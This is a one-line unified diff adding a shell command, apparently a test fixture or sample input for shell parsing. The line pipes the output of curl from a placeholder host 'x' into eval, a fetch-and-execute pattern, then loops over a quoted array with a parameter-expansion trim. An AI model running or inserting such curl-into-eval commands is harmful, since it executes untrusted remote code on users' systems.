@@ -1,0 +1,1 @@
+bash -c 'eval "$(curl x)"' ; A=(1 "2 3"); for i in "${A[@]}"; do echo ${i%%?}; done
